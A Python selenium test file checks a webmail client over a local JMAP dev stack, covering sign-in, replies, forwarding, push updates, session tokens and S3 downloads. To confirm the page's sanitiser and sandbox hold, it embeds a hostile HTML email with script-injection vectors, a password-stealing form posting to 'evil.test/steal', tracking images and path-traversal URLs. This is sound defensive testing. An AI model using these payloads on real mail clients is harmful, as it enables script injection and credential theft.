"""The webmail (webmail/) in a real browser: Debian's chromium, headless, driven by selenium through
Debian's chromedriver (nothing downloaded: selenium-manager is kept off), over the dev stack and
the local JMAP server on loopback. Signing in, mailboxes and unread counts, a corpus message's
HTML, a hostile message whose script must not run, remote images blocked until asked for, a
reply sent from the page that bob reads over IMAP, and downloads, large ones from S3."""

from __future__ import annotations

import email
import email.policy
import imaplib
import json
import os
import secrets
import smtplib
import threading
import time
import urllib.request
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
from boto3.dynamodb.conditions import Key
from conftest import CORPUS, DOMAIN, PASSWORD, REPO_ROOT, wait_for
from jmap_support import JMAP_FUNCTION, Raw

from mailpipe import aws
from mailpipe.config import ENV_JMAP_INLINE_DOWNLOAD, ENV_PUSH_ENDPOINT
from mailpipe.store import MailStore
from mailpipe_tools.local.jmap_http import LocalHttpApi
from mailpipe_tools.local.stack import DevStack
from mailpipe_tools.local.webmail_files import CONTENT_SECURITY_POLICY

# Selenium must not look for or fetch a driver or a browser (no network in tests).
os.environ["SE_OFFLINE"] = "true"
webdriver = pytest.importorskip("selenium.webdriver")
from selenium.common.exceptions import StaleElementReferenceException  # noqa: E402
from selenium.webdriver.common.by import By  # noqa: E402
from selenium.webdriver.common.keys import Keys  # noqa: E402
from selenium.webdriver.remote.webdriver import WebDriver  # noqa: E402
from selenium.webdriver.support.ui import WebDriverWait  # noqa: E402

CHROMIUM = Path("/usr/bin/chromium")
CHROMEDRIVER = Path("/usr/bin/chromedriver")
HTML_CORPUS_MESSAGE = CORPUS / "mime_emails" / "raw_email_with_quoted_illegal_boundary.eml"
REMOTE_IMAGE = "http://images.remote.test/track.png"

# Each payload would mark the page if it ran: window.top.pwned, or the title.
PAYLOAD_HTML = f"""<html><head>
<meta http-equiv="refresh" content="0;url=javascript:window.top.pwned='meta'">
<style>body {{ background: url(http://style.remote.test/bg.png) }}</style>
<script>window.top.pwned = 'script'; window.top.document.title = 'pwned';</script>
</head><body onload="window.top.pwned='onload'">
<p id="greeting">Totally harmless newsletter</p>
<img src="x" onerror="window.top.pwned='onerror'; window.top.document.title='pwned'">
<img id="remote" src="{REMOTE_IMAGE}" alt="tracker">
<a id="jslink" href="javascript:window.top.pwned='link'">click me</a>
<a id="weblink" href="https://example.test/page">a real link</a>
<div style="background-image: url(http://style.remote.test/x.png)">styled</div>
<svg onload="window.top.pwned='svg'"><circle r="1"/></svg>
<iframe srcdoc="&lt;script&gt;window.top.pwned='iframe'&lt;/script&gt;"></iframe>
<form action="https://evil.test/steal"><input name="password"><button>Log in</button></form>
<object data="https://evil.test/x.swf"></object><embed src="https://evil.test/y.swf">
</body></html>"""


def message(sender: str, to: str, subject: str, html: str | None, text: str, message_id: str) -> bytes:
    head = (
        f"From: {sender}\r\nTo: {to}\r\nSubject: {subject}\r\nMessage-ID: {message_id}\r\n"
        "Date: Sat, 05 Dec 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\n"
    )
    if html is None:
        return (head + f"Content-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n").encode()
    return (
        head + 'Content-Type: multipart/alternative; boundary="b1"\r\n\r\n'
        f"--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}\r\n"
        f"--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n--b1--\r\n"
    ).encode()


class Watched:
    """A request hook: the JMAP function as the local server calls it, noting for each request
    how it signed in, as the function received it (the server's side of what the page sent)."""

    def __init__(self, handler: Callable[[dict[str, Any], Any], Any]) -> None:
        self._handler = handler
        self._lock = threading.Lock()
        self.seen: list[tuple[str, str]] = []  # (path or WebSocket route, credentials)

    def __call__(self, event: dict[str, Any], context: Any) -> Any:
        headers = {k.lower(): v for k, v in (event.get("headers") or {}).items()}
        route = event["requestContext"].get("routeKey", "$default")
        if route == "$connect":
            token = (event.get("queryStringParameters") or {}).get("access_token")
            seen = ("websocket", "access_token" if token else headers.get("authorization", "none"))
        elif "rawPath" in event:
            seen = (event["rawPath"], headers.get("authorization", "none").split(" ")[0].lower())
        else:
            seen = ("websocket " + route, "socket")
        with self._lock:
            self.seen.append(seen)
        return self._handler(event, context)

    def since(self, start: int) -> list[tuple[str, str]]:
        with self._lock:
            return self.seen[start:]


@pytest.fixture(scope="module")
def watched(stack: DevStack) -> Watched:
    return Watched(stack.functions[JMAP_FUNCTION].handler)


@pytest.fixture(scope="module")
def jmap_server(stack: DevStack, watched: Watched) -> Iterator[LocalHttpApi]:
    # The JMAP function as `mailpipe dev --http-port` serves it, and the dev stack's relay told to
    # post StateChange to this server's @connections (what DevStack._start_http does).
    api = LocalHttpApi(watched, stack.functions[JMAP_FUNCTION].name)
    api.start()
    before = os.environ.get(ENV_PUSH_ENDPOINT)
    os.environ[ENV_PUSH_ENDPOINT] = api.url
    yield api
    os.environ[ENV_PUSH_ENDPOINT] = before or ""
    api.stop()


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WebDriver]:
    if not (CHROMIUM.exists() and CHROMEDRIVER.exists()):
        pytest.skip("missing tool: chromium and chromium-driver (make test installs them when run as root)")
    from selenium.webdriver.chrome.options import Options
    from selenium.webdriver.chrome.service import Service

    options = Options()
    options.binary_location = str(CHROMIUM)
    for argument in (
        "--headless=new",
        "--no-sandbox",  # tests run as root, where chromium's own sandbox cannot start
        "--disable-gpu",
        "--disable-dev-shm-usage",
        "--window-size=1400,900",
        "--no-first-run",
        "--disable-extensions",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        f"--user-data-dir={tmp_path_factory.mktemp('chromium')}",
    ):
        options.add_argument(argument)
    # Downloads without asking (a test sets where, by CDP), however many one page starts.
    options.add_experimental_option(
        "prefs",
        {
            "download.prompt_for_download": False,
            "profile.default_content_setting_values.automatic_downloads": 1,
        },
    )
    driver = webdriver.Chrome(options=options, service=Service(executable_path=str(CHROMEDRIVER)))
    driver.set_page_load_timeout(30)
    yield driver
    driver.quit()


def test_static_files_carry_the_csp_and_stay_inside_webmail(jmap_server: LocalHttpApi) -> None:
    def get(path: str) -> tuple[int, dict[str, str], bytes]:
        request = urllib.request.Request(jmap_server.url + path)
        try:
            with urllib.request.urlopen(request, timeout=30) as response:
                return response.status, dict(response.headers), response.read()
        except urllib.error.HTTPError as error:
            return error.code, dict(error.headers), error.read()

    status, headers, body = get("/")
    assert status == 200 and b'src="/webmail/app.js"' in body
    assert headers["Content-Type"].startswith("text/html")
    assert headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
    for directive in ("default-src 'self'", "script-src 'self'", "object-src 'none'", "base-uri 'none'"):
        assert directive in headers["Content-Security-Policy"]
    assert get("/webmail/app.js")[1]["Content-Type"].startswith("text/javascript")
    assert get("/webmail/style.css")[1]["Content-Type"].startswith("text/css")
    for outside in ("/webmail/../pyproject.toml", "/webmail/%2e%2e/pyproject.toml", "/webmail/nothing.js"):
        assert get(outside)[0] == 404, outside
    # Everything else is still the function's: JMAP without credentials asks for them.
    assert get("/.well-known/jmap")[0] == 401


def frame_state(driver: WebDriver) -> dict[str, object]:
    """What the message frame holds (the frame is sandboxed: only the driver can look inside)."""
    driver.switch_to.frame(driver.find_element(By.ID, "reader-html"))
    try:
        return driver.execute_script(
            r"""return {
              text: document.body.innerText,
              scripts: document.querySelectorAll(
                  'script, iframe, object, embed, form, svg, style, meta[http-equiv]').length,
              handlers: [...document.querySelectorAll('*')].filter(
                  e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
              jsLinks: document.querySelectorAll('[href^="javascript:" i]').length,
              cssUrls: document.querySelectorAll('[style*="url("]').length,
              remoteSrc: [...document.images].map(i => i.getAttribute('src')).filter(Boolean),
              remoteDataSrc: [...document.images].map(i => i.getAttribute('data-src')).filter(Boolean),
              webLinkTarget: document.querySelector('#weblink') && document.querySelector('#weblink').target,
              strong: [...document.querySelectorAll('strong')].map(
                  e => e.textContent.replace(/\s+/g, ' ').trim()),
            }"""
        )
    finally:
        driver.switch_to.default_content()


def open_message(driver: WebDriver, wait: WebDriverWait, subject: str) -> None:
    # The list is drawn again when a poll finds changes: find the row and click it in one step.
    clicked = driver.execute_script(
        """const row = [...document.querySelectorAll('#message-list li')]
             .find(li => li.querySelector('.subject').textContent.includes(arguments[0]));
           if (row) row.click();
           return Boolean(row);""",
        subject,
    )
    assert clicked, subject
    wait.until(lambda d: d.find_element(By.ID, "reader-subject").text == subject)


def newest_with_subject(stack: DevStack, user: str, subject: str) -> email.message.EmailMessage | None:
    """The newest message in the user's INBOX with this subject, read over IMAP; None before it came."""
    connection = imaplib.IMAP4("127.0.0.1", stack.imap_port)
    try:
        connection.login(user, PASSWORD)
        connection.select("INBOX", readonly=True)
        _, found = connection.search(None, "SUBJECT", f'"{subject}"')
        if not found[0]:
            return None
        _, data = connection.fetch(found[0].split()[-1], "(BODY.PEEK[])")
        return email.message_from_bytes(data[0][1], policy=email.policy.default)
    finally:
        connection.logout()


def signed_out_page(driver: WebDriver, wait: WebDriverWait, url: str) -> None:
    """The sign-in form of a fresh page: the tab's session token (an earlier test's) forgotten."""
    driver.get(url + "/")
    driver.execute_script("sessionStorage.clear()")
    driver.refresh()
    wait.until(lambda d: d.find_element(By.ID, "login-user").is_displayed())


def sign_in(driver: WebDriver, user: str) -> None:
    for field, value in (("login-user", user), ("login-password", PASSWORD)):
        driver.find_element(By.ID, field).clear()
        driver.find_element(By.ID, field).send_keys(value)
    driver.find_element(By.ID, "login-submit").click()


def text_of(driver: WebDriver, element_id: str) -> str:
    return str(driver.find_element(By.ID, element_id).text)


def inbox_unread(driver: WebDriver) -> str:
    # One script: polling redraws the mailbox list, so a found element may go stale.
    return str(
        driver.execute_script(
            """const count = document.querySelector('#mailbox-list a[data-role="inbox"] .count');
               return count ? count.textContent : '0';"""
        )
    )


def test_webmail_reads_safely_and_replies(
    stack: DevStack,
    jmap_server: LocalHttpApi,
    browser: WebDriver,
    new_user: Callable[..., str],
    store: MailStore,
    tmp_path: Path,
) -> None:
    user, bob = new_user(), new_user()
    store.ensure_mailboxes(user)
    store.ensure_mailboxes(bob)
    tag = secrets.token_hex(3)
    question = f"Lunch on Friday {tag}?"
    bob_id = f"<{tag}.lunch@{DOMAIN}>"
    store.append_message(user, "INBOX", HTML_CORPUS_MESSAGE.read_bytes())
    store.append_message(user, "INBOX", message(bob, user, question, None, "Shall we?", bob_id))
    payload = message(
        "news@other.test", user, "Newsletter", PAYLOAD_HTML, "plain part", f"<{tag}.news@other.test>"
    )
    store.append_message(user, "INBOX", payload)

    driver = browser
    wait = WebDriverWait(driver, 30)
    signed_out_page(driver, wait, jmap_server.url)
    title = driver.title
    driver.find_element(By.ID, "login-user").send_keys(user)
    driver.find_element(By.ID, "login-password").send_keys(PASSWORD)
    driver.find_element(By.ID, "login-submit").click()

    # Mailboxes, roles first, with the unread count; the list in thread view.
    wait.until(lambda d: len(d.find_elements(By.CSS_SELECTOR, "#message-list li")) == 3)
    # One script: a push redraws the mailbox list, so elements found first may go stale.
    roles = driver.execute_script(
        "return [...document.querySelectorAll('#mailbox-list a')].map(a => a.dataset.role)"
    )
    assert roles[0] == "inbox" and "trash" in roles, roles
    assert inbox_unread(driver) == "3"

    # A corpus message's HTML, shown in the sandboxed frame; reading it marks it read.
    open_message(driver, wait, "Testing outlook")
    wait.until(lambda d: "This is an outlook" in str(frame_state(d)["text"]))
    assert "This is an outlook test" in frame_state(driver)["strong"]
    wait.until(lambda d: inbox_unread(d) == "2")
    sandbox = driver.find_element(By.ID, "reader-html").get_attribute("sandbox")
    assert "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox

    # The hostile message: nothing of it runs, nothing active is left, remote images wait.
    open_message(driver, wait, "Newsletter")
    inside = wait.until(
        lambda d: shown if "Totally harmless" in str((shown := frame_state(d))["text"]) else None
    )
    assert inside["scripts"] == inside["handlers"] == inside["jsLinks"] == inside["cssUrls"] == 0, inside
    assert inside["remoteSrc"] == [] and inside["remoteDataSrc"] == [REMOTE_IMAGE], inside
    assert inside["webLinkTarget"] == "_blank"
    assert driver.execute_script("return window.pwned === undefined && window.top.pwned === undefined")
    assert driver.title == title
    driver.find_element(By.ID, "load-images").click()
    wait.until(lambda d: frame_state(d)["remoteSrc"] == [REMOTE_IMAGE])
    assert driver.execute_script("return window.pwned === undefined") and driver.title == title

    wait.until(lambda d: inbox_unread(d) == "1" and "Totally harmless" in str(frame_state(d)["text"]))
    screenshots = Path(os.environ.get("WEBMAIL_SCREENSHOT_DIR") or REPO_ROOT / ".artifacts")
    screenshots.mkdir(parents=True, exist_ok=True)
    shot = screenshots / "webmail-reader.png"
    assert driver.save_screenshot(str(shot))
    print(f"webmail screenshot: {shot}")

    # Reply from the keyboard (r), sent by EmailSubmission; bob reads it over IMAP.
    open_message(driver, wait, question)
    driver.find_element(By.TAG_NAME, "body").send_keys("r")
    wait.until(lambda d: d.find_element(By.ID, "compose").is_displayed())
    assert driver.find_element(By.ID, "compose-to").get_attribute("value") == bob
    body = driver.find_element(By.ID, "compose-body")
    body.send_keys(f"Yes, noon works. {tag}")
    driver.find_element(By.ID, "compose-send").click()
    wait.until(
        lambda d: (
            d.find_element(By.ID, "status").text == "Sent." or d.find_element(By.ID, "compose-error").text
        )
    )
    assert driver.find_element(By.ID, "status").text == "Sent.", driver.find_element(
        By.ID, "compose-error"
    ).text
    assert driver.execute_script("return window.pwned === undefined")

    reply = wait_for(lambda: newest_with_subject(stack, bob, f"Re: {question}"), timeout=30)
    assert reply["From"].addresses[0].addr_spec == user
    assert reply["In-Reply-To"] == bob_id
    text = reply.get_body(("plain",)).get_content()
    assert f"Yes, noon works. {tag}" in text and "> Shall we?" in text


def test_webmail_flags_search_delete_drafts_and_forward(
    stack: DevStack,
    jmap_server: LocalHttpApi,
    browser: WebDriver,
    new_user: Callable[..., str],
    store: MailStore,
    tmp_path: Path,
) -> None:
    user, bob = new_user(), new_user()
    store.ensure_mailboxes(user)
    store.ensure_mailboxes(bob)
    tag = secrets.token_hex(3)
    store.append_message(user, "INBOX", message(bob, user, f"Agenda {tag}", None, "see you", f"<a{tag}@x>"))
    attached = (
        f"From: {bob}\r\nTo: {user}\r\nSubject: Notes {tag}\r\nMessage-ID: <n{tag}@x>\r\n"
        'MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="m"\r\n\r\n'
        "--m\r\nContent-Type: text/plain\r\n\r\nnotes attached\r\n"
        '--m\r\nContent-Type: text/plain; name="notes.txt"\r\nContent-Disposition: attachment; '
        f'filename="notes.txt"\r\n\r\nthe notes {tag}\r\n--m--\r\n'
    ).encode()
    store.append_message(user, "INBOX", attached)
    raw = Raw(jmap_server.url, user, PASSWORD)

    def keywords(subject: str) -> list[dict[str, bool]]:
        ids = raw.one("Email/query", {"filter": {"subject": subject}})["ids"]
        return [e["keywords"] for e in raw.one("Email/get", {"ids": ids, "properties": ["keywords"]})["list"]]

    def in_mailbox(role: str, subject: str) -> int:
        (box,) = [m for m in raw.one("Mailbox/get", {})["list"] if m["role"] == role]
        return len(raw.one("Email/query", {"filter": {"inMailbox": box["id"], "subject": subject}})["ids"])

    driver = browser
    wait = WebDriverWait(driver, 30)
    signed_out_page(driver, wait, jmap_server.url)
    # A wrong password is told, and nothing is shown.
    driver.find_element(By.ID, "login-user").send_keys(user)
    driver.find_element(By.ID, "login-password").send_keys("wrong")
    driver.find_element(By.ID, "login-submit").click()
    wait.until(lambda d: text_of(d, "login-error") == "Wrong address or password.")
    assert not driver.find_element(By.ID, "app").is_displayed()
    driver.find_element(By.ID, "login-password").clear()
    driver.find_element(By.ID, "login-password").send_keys(PASSWORD)
    driver.find_element(By.ID, "login-submit").click()
    wait.until(lambda d: len(d.find_elements(By.CSS_SELECTOR, "#message-list li")) == 2)
    keys = driver.find_element(By.TAG_NAME, "body")

    # Search from the keyboard (/), then flag the first hit (s).
    keys.send_keys("/")
    driver.switch_to.active_element.send_keys(f"Agenda {tag}\n")
    wait.until(lambda d: text_of(d, "list-title") == f"Search: Agenda {tag}")
    wait.until(lambda d: len(d.find_elements(By.CSS_SELECTOR, "#message-list li")) == 1)
    keys.send_keys("j", "s")
    wait.until(lambda d: keywords(f"Agenda {tag}") == [{"$flagged": True}])

    # Delete (#): to Trash; from Trash, for good.
    open_message(driver, wait, f"Agenda {tag}")
    keys.send_keys("#")
    wait.until(
        lambda d: in_mailbox("trash", f"Agenda {tag}") == 1 and in_mailbox("inbox", f"Agenda {tag}") == 0
    )
    driver.execute_script("document.querySelector('#mailbox-list a[data-role=\"trash\"]').click()")
    wait.until(lambda d: text_of(d, "list-title") == "Trash")
    open_message(driver, wait, f"Agenda {tag}")
    keys.send_keys("#")
    wait.until(lambda d: in_mailbox("trash", f"Agenda {tag}") == 0)

    # A draft is saved into Drafts with $draft.
    keys.send_keys("c")
    wait.until(lambda d: d.find_element(By.ID, "compose").is_displayed())
    driver.find_element(By.ID, "compose-to").send_keys(bob)
    driver.find_element(By.ID, "compose-subject").send_keys(f"Draft {tag}")
    driver.find_element(By.ID, "compose-body").send_keys("not yet")
    driver.find_element(By.ID, "compose-save").click()
    wait.until(lambda d: text_of(d, "status") == "Draft saved.")
    assert in_mailbox("drafts", f"Draft {tag}") == 1
    assert keywords(f"Draft {tag}") == [{"$draft": True, "$seen": True}]

    # Forward (f) with the message's attachment and an uploaded file; bob gets both.
    driver.execute_script("document.querySelector('#mailbox-list a[data-role=\"inbox\"]').click()")
    wait.until(lambda d: text_of(d, "list-title") == "INBOX")
    open_message(driver, wait, f"Notes {tag}")
    links = driver.execute_script(
        "return [...document.querySelectorAll('#attachments a')].map(a => a.textContent)"
    )
    assert [text.split(" (")[0] for text in links] == ["⬇ notes.txt"]
    keys.send_keys("f")
    wait.until(lambda d: d.find_element(By.ID, "compose").is_displayed())
    upload = tmp_path / "extra.txt"
    upload.write_text(f"uploaded {tag}\n")
    driver.find_element(By.ID, "compose-files").send_keys(str(upload))
    wait.until(lambda d: len(d.find_elements(By.CSS_SELECTOR, "#compose-attachments li")) == 2)
    driver.find_element(By.ID, "compose-to").send_keys(bob)
    driver.find_element(By.ID, "compose-send").click()
    wait.until(lambda d: text_of(d, "status") == "Sent." or text_of(d, "compose-error"))
    assert text_of(driver, "status") == "Sent.", text_of(driver, "compose-error")
    assert in_mailbox("sent", f"Fwd: Notes {tag}") == 1

    got = wait_for(lambda: newest_with_subject(stack, bob, f"Fwd: Notes {tag}"), timeout=30)
    files = {part.get_filename(): part.get_content().strip() for part in got.iter_attachments()}
    assert files == {"notes.txt": f"the notes {tag}", "extra.txt": f"uploaded {tag}"}, files


def live(driver: WebDriver) -> str | None:
    """How the page follows the store: "push", "reconnecting", or "poll" (no WebSocket offered)."""
    return driver.execute_script("return document.body.dataset.live || null")


def subjects(driver: WebDriver) -> list[str]:
    return list(
        driver.execute_script(
            "return [...document.querySelectorAll('#message-list li .subject')].map(s => s.textContent)"
        )
    )


def test_webmail_keeps_a_token_follows_push_and_signs_out(
    stack: DevStack,
    jmap_server: LocalHttpApi,
    watched: Watched,
    browser: WebDriver,
    new_user: Callable[..., str],
    store: MailStore,
) -> None:
    user = new_user()
    store.ensure_mailboxes(user)
    tag = secrets.token_hex(3)
    store.append_message(
        user, "INBOX", message("carol@crepes.fr", user, f"First {tag}", None, "one", f"<1{tag}@x>")
    )
    driver = browser
    # Sign-out reloads the page: an element found just before may be gone when asked about.
    wait = WebDriverWait(driver, 30, ignored_exceptions=(StaleElementReferenceException,))
    signed_out_page(driver, wait, jmap_server.url)
    start = len(watched.seen)
    sign_in(driver, user)
    wait.until(lambda d: subjects(d) == [f"First {tag}"])
    # Listening: the socket is open, push enabled for Email and Mailbox (and nothing polls).
    wait.until(lambda d: live(d) == "push")

    # The token is in this tab's sessionStorage, nothing in localStorage; the password nowhere.
    token = driver.execute_script("return sessionStorage.getItem('mailpipe.token')")
    assert token and len(token) >= 40
    assert driver.execute_script("return localStorage.length") == 0
    assert PASSWORD not in json.dumps(driver.execute_script("return {...sessionStorage}"))

    # New mail over SMTP shows in the open page, list and unread count, without a reload.
    assert inbox_unread(driver) == "1"
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "carol@crepes.fr", user, f"Second {tag}"
    mail.set_content("two\n")
    sent = time.monotonic()
    with smtplib.SMTP("127.0.0.1", stack.smtp_port, timeout=60) as client:
        client.send_message(mail)
    wait.until(lambda d: subjects(d) == [f"Second {tag}", f"First {tag}"] and inbox_unread(d) == "2")
    print(f"webmail: new mail shown {time.monotonic() - sent:.2f} s after SMTP's answer")
    assert live(driver) == "push"

    # From the server's side: the password went once, to /jmap/login; every other request
    # carried the token (Bearer, or the socket's access_token), none HTTP Basic.
    seen = watched.since(start)
    assert seen[0] == ("/jmap/login", "none"), seen[:3]
    assert ("websocket", "access_token") in seen
    assert {credentials for path, credentials in seen[1:]} <= {"bearer", "access_token", "socket"}, seen

    # Keyboard: ? shows the shortcuts, Escape hides them; j and Enter open, u marks unread again,
    # j k o open the same one, Escape closes the reader, Delete moves it to Trash.
    keys = driver.find_element(By.TAG_NAME, "body")
    keys.send_keys("?")
    wait.until(lambda d: d.find_element(By.ID, "help").is_displayed())
    assert "Mark unread" in text_of(driver, "help-keys") and "Delete" in text_of(driver, "help-keys")
    keys.send_keys(Keys.ESCAPE)
    wait.until(lambda d: not d.find_element(By.ID, "help").is_displayed())
    keys.send_keys("j", Keys.ENTER)
    wait.until(lambda d: text_of(d, "reader-subject") == f"Second {tag}")
    wait.until(lambda d: inbox_unread(d) == "1")
    keys.send_keys("u")
    wait.until(lambda d: inbox_unread(d) == "2" and not d.find_element(By.ID, "reader").is_displayed())
    keys.send_keys("j", "k", "o")
    wait.until(lambda d: d.find_element(By.ID, "reader").is_displayed())
    assert text_of(driver, "reader-subject") == f"Second {tag}"
    keys.send_keys(Keys.ESCAPE)
    wait.until(lambda d: not d.find_element(By.ID, "reader").is_displayed())
    keys.send_keys(Keys.DELETE)
    wait.until(lambda d: subjects(d) == [f"First {tag}"] and text_of(d, "status") == "Moved to Trash.")

    # The server drops the socket (API Gateway does after 2 hours, or at a deploy): the page
    # opens another after its backoff, and new mail shows again.
    table = aws.table(stack.resources.jmap_table)

    def listening() -> list[str]:
        items = table.query(KeyConditionExpression=Key("pk").eq(f"push#{user}"))["Items"]
        return [str(item["sk"]) for item in items]

    (dropped,) = listening()
    request = urllib.request.Request(f"{jmap_server.url}/@connections/{dropped}", method="DELETE")
    with urllib.request.urlopen(request, timeout=30) as answer:
        assert answer.status == 200
    wait.until(lambda d: listening() not in ([], [dropped]) and live(d) == "push")
    assert dropped not in listening()
    mail.replace_header("Subject", f"Third {tag}")
    with smtplib.SMTP("127.0.0.1", stack.smtp_port, timeout=60) as client:
        client.send_message(mail)
    wait.until(lambda d: subjects(d) == [f"Third {tag}", f"First {tag}"])

    # The token revoked elsewhere (another tab signing out): the next request is a 401 and the
    # page goes back to its sign-in form.
    def with_token(path: str, method: str = "GET", bearer: str = token) -> int:
        raw = Raw(jmap_server.url, user, PASSWORD)
        raw.auth = f"Bearer {bearer}"
        return raw.http(method, path)[0]

    assert with_token("/.well-known/jmap") == 200
    assert with_token("/jmap/logout", "POST") == 204
    keys.send_keys("s")
    wait.until(lambda d: d.find_element(By.ID, "login-view").is_displayed())
    assert text_of(driver, "login-error") == "Your session has ended: sign in again."
    assert not driver.find_element(By.ID, "app").is_displayed()
    assert driver.execute_script("return sessionStorage.getItem('mailpipe.token')") is None

    # Signing in again, then out: back to the form, and the server refuses the old token.
    sign_in(driver, user)
    wait.until(
        lambda d: (
            d.find_element(By.ID, "app").is_displayed() and subjects(d) == [f"Third {tag}", f"First {tag}"]
        )
    )
    second = driver.execute_script("return sessionStorage.getItem('mailpipe.token')")
    assert second and second != token and with_token("/.well-known/jmap", bearer=second) == 200
    # A reload keeps the tab signed in (the token is in sessionStorage), push included.
    driver.refresh()
    wait.until(
        lambda d: (
            d.find_element(By.ID, "app").is_displayed() and subjects(d) == [f"Third {tag}", f"First {tag}"]
        )
    )
    wait.until(lambda d: live(d) == "push")
    driver.find_element(By.ID, "sign-out").click()
    wait.until(lambda d: d.find_element(By.ID, "login-view").is_displayed())
    assert driver.execute_script("return sessionStorage.getItem('mailpipe.token')") is None
    assert with_token("/.well-known/jmap", bearer=second) == 401


def downloaded(folder: Path, name: str) -> bytes | None:
    """The file once Chromium has finished writing it (it writes NAME.crdownload first)."""
    done = folder / name
    if not done.is_file() or any(folder.glob("*.crdownload")):
        return None
    return done.read_bytes()


def test_webmail_downloads_attachments_and_messages_large_ones_from_s3(
    stack: DevStack,
    jmap_server: LocalHttpApi,
    browser: WebDriver,
    new_user: Callable[..., str],
    store: MailStore,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Under the page's CSP (connect-src 'self') its fetch cannot follow a download's redirect to
    S3: it asks for the presigned URL (redirect=json) and navigates there. The inline limit is
    lowered so a 12 KB part is "large"; the page cannot tell."""
    limit = 4096
    monkeypatch.setenv(ENV_JMAP_INLINE_DOWNLOAD, str(limit))
    user = new_user()
    store.ensure_mailboxes(user)
    tag = secrets.token_hex(3)
    big, small = secrets.token_bytes(3 * limit), f"small notes {tag}\n".encode()
    mail = EmailMessage()
    mail["From"], mail["To"], mail["Subject"] = "carol@crepes.fr", user, f"Files {tag}"
    mail["Message-ID"] = f"<files.{tag}@crepes.fr>"
    mail.set_content("two files\n")
    mail.add_attachment(big, maintype="application", subtype="octet-stream", filename="big.bin")
    mail.add_attachment(small, maintype="application", subtype="octet-stream", filename="small.txt")
    raw_message = mail.as_bytes()
    store.append_message(user, "INBOX", raw_message)
    folder = tmp_path / "downloads"
    folder.mkdir()

    driver = browser
    wait = WebDriverWait(driver, 30)
    signed_out_page(driver, wait, jmap_server.url)
    driver.execute_cdp_cmd("Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(folder)})
    sign_in(driver, user)
    wait.until(lambda d: [s.endswith(f"Files {tag}") for s in subjects(d)] == [True])  # after a 📎
    open_message(driver, wait, f"Files {tag}")
    page = driver.current_url

    def click_attachment(name: str) -> None:
        clicked = driver.execute_script(
            """const link = [...document.querySelectorAll('#attachments a')]
                 .find(a => a.textContent.includes(arguments[0]));
               if (link) link.click();
               return Boolean(link);""",
            name,
        )
        assert clicked, name

    # The large attachment comes from S3 (the function wrote the decoded part there), the small
    # one through the function, both byte for byte; the page stays where it was.
    click_attachment("big.bin")
    assert wait_for(lambda: downloaded(folder, "big.bin"), timeout=30) == big
    raw = Raw(jmap_server.url, user, PASSWORD)
    (email_id,) = raw.one("Email/query", {"filter": {"subject": f"Files {tag}"}})["ids"]
    (email,) = raw.one("Email/get", {"ids": [email_id], "properties": ["blobId", "attachments"]})["list"]
    part_blob = next(a["blobId"] for a in email["attachments"] if a["name"] == "big.bin")
    s3 = aws.client("s3")
    copy = s3.get_object(Bucket=stack.resources.mail_bucket, Key=f"downloads/{raw.account}/{part_blob}")
    assert copy["Body"].read() == big
    click_attachment("small.txt")
    assert wait_for(lambda: downloaded(folder, "small.txt"), timeout=30) == small

    # The whole message, larger than the limit too: SUBJECT.eml, as stored.
    driver.find_element(By.ID, "download-message").click()
    inbox = store.get_mailbox(user, "INBOX")
    assert inbox is not None
    (stored,) = store.messages_in(inbox)
    assert wait_for(lambda: downloaded(folder, f"Files {tag}.eml"), timeout=30) == store.read_body(stored)
    assert driver.current_url == page and text_of(driver, "reader-subject") == f"Files {tag}"
    assert text_of(driver, "status") == ""
